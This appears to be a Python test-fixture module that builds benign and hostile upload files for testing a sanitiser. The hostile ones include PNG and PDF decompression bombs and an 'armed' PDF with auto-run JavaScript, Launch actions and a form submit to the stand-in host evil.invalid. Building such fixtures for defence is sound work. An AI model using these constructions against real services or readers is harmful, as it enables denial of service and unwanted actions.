"""Uploads as bytes: honest ones and hostile ones. Nothing here touches the disk."""

import io
import struct
import zipfile
import zlib

import pikepdf
from pikepdf import Array, Dictionary, Name, String
from PIL import Image

GPS = 0x8825
ORIENTATION = 0x0112


def photo(size=(640, 480), format="JPEG", colour=(180, 30, 40), **options) -> bytes:
    """A plain picture."""
    out = io.BytesIO()
    Image.new("RGB", size, colour).save(out, format, **options)
    return out.getvalue()


def photo_from_a_phone() -> bytes:
    """Landscape pixels, "turn me right" in the EXIF, the place of a house, a red left half."""
    picture = Image.new("RGB", (400, 200), (0, 0, 255))
    picture.paste((255, 0, 0), (0, 0, 200, 200))
    exif = picture.getexif()
    exif[ORIENTATION] = 6
    exif[0x010E] = "SECRET-CAPTION"
    exif.get_ifd(GPS).update({1: "N", 2: (18.0, 40.0, 1.0), 3: "E", 4: (105.0, 41.0, 2.0)})
    out = io.BytesIO()
    picture.save(out, "JPEG", exif=exif, comment=b"SECRET-COMMENT", icc_profile=b"SECRET-PROFILE")
    return out.getvalue()


def png_that_claims(width: int, height: int, *, colour: int = 2) -> bytes:
    """A few hundred bytes whose head promises a huge picture; colour 6 has transparency."""

    def chunk(kind: bytes, body: bytes) -> bytes:
        return struct.pack(">I", len(body)) + kind + body + struct.pack(">I", zlib.crc32(kind + body))

    head = struct.pack(">IIBBBBB", width, height, 8, colour, 0, 0, 0)
    return (
        b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", head) + chunk(b"IDAT", zlib.compress(b"\0" * 1000)) + chunk(b"IEND", b"")
    )


def pdf(pages: int = 1, **save) -> bytes:
    """Blank A4 pages."""
    made = pikepdf.new()
    for _page in range(pages):
        made.add_blank_page(page_size=(595, 842))
    out = io.BytesIO()
    made.save(out, **save)
    return out.getvalue()


def locked_pdf(password: str = "") -> bytes:
    """An encrypted PDF; with an empty password every reader opens it without asking."""
    return pdf(encryption=pikepdf.Encryption(owner="owner", user=password))


def armed_pdf() -> bytes:
    """Everything that a PDF can do by itself, at the places where it is allowed and deep inside others."""
    made = pikepdf.new()
    made.add_blank_page(page_size=(595, 842))
    script = Dictionary(S=Name.JavaScript, JS=String("app.alert('SCRIPT')"))
    launch = Dictionary(S=Name.Launch, F=String("cmd-LAUNCH.exe"))
    made.Root.OpenAction = script
    made.Root.AA = Dictionary(WC=script)
    made.Root.Names = Dictionary(JavaScript=Dictionary(Names=Array([String("x"), made.make_indirect(script)])))
    made.attachments["ATTACHED.txt"] = b"ATTACHED-BODY"
    box = Dictionary(
        Type=Name.Annot, Subtype=Name.Widget, FT=Name.Tx, T=String("a"), Rect=[0, 0, 9, 9], AA=Dictionary(K=script)
    )
    box.MK = Dictionary(Deep=Dictionary(AA=script))
    field = made.make_indirect(box)
    xfa = Array([String("template"), made.make_stream(b"<XFA-FORM/>")])
    made.Root.AcroForm = Dictionary(XFA=xfa, Fields=Array([field]))
    page = made.pages[0].obj
    page.AA = Dictionary(O=launch)
    page.Annots = Array([
        Dictionary(Type=Name.Annot, Subtype=Name.Link, Rect=[0, 0, 9, 9], A=launch),
        Dictionary(Type=Name.Annot, Subtype=Name.Link, Rect=[0, 0, 9, 9], A=Dictionary(S=Name.SubmitForm, F=String("http://evil.invalid"))),
        made.make_indirect(Dictionary(Type=Name.Annot, Subtype=Name.Link, Rect=[0, 0, 9, 9], A=Dictionary(S=Name.GoTo, D=String("here"), Next=script))),
        Dictionary(Type=Name.Annot, Subtype=Name.Link, Rect=[0, 0, 9, 9], A=Dictionary(S=Name.GoTo, D=String("KEPT-TARGET"))),
        Dictionary(Type=Name.Annot, Subtype=Name.FileAttachment, Rect=[0, 0, 9, 9], FS=Dictionary(F=String("NOTE.exe"))),
        field,
    ])  # fmt: skip
    out = io.BytesIO()
    made.save(out)
    return out.getvalue()


def swelling_pdf(megabytes: int = 400) -> bytes:
    """An object stream of zeros: small on the wire, hundreds of megabytes once opened."""
    body = zlib.compress(b"0 " * (megabytes * 500_000), 9)
    return (
        b"%PDF-1.5\n1 0 obj\n<</Type/ObjStm/N 1/First 4/Filter/FlateDecode/Length "
        + str(len(body)).encode() + b">>\nstream\n" + body + b"\nendstream\nendobj\n"
        b"2 0 obj\n<</Type/XRef/Size 4/W[1 2 1]/Root 3 0 R/Length 0>>\nstream\n\nendstream\nendobj\n"
        b"trailer\n<</Root 3 0 R/Size 4>>\nstartxref\n0\n%%EOF"
    )  # fmt: skip


def archive() -> bytes:
    """A zip with a program in it."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as packed:
        packed.writestr("setup.exe", b"MZ" + b"\0" * 100)
    return out.getvalue()
